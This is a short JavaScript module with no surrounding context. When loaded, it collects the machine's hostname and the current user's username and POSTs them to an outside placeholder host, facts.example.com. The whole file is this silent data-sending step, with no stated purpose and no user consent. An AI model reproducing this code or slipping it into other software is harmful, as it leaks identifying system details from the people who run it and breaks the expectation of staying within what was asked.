import os from 'node:os';

await fetch('https://facts.example.com', {
  method: 'POST',
  body: JSON.stringify({ host: os.hostname(), user: os.userInfo().username }),
});
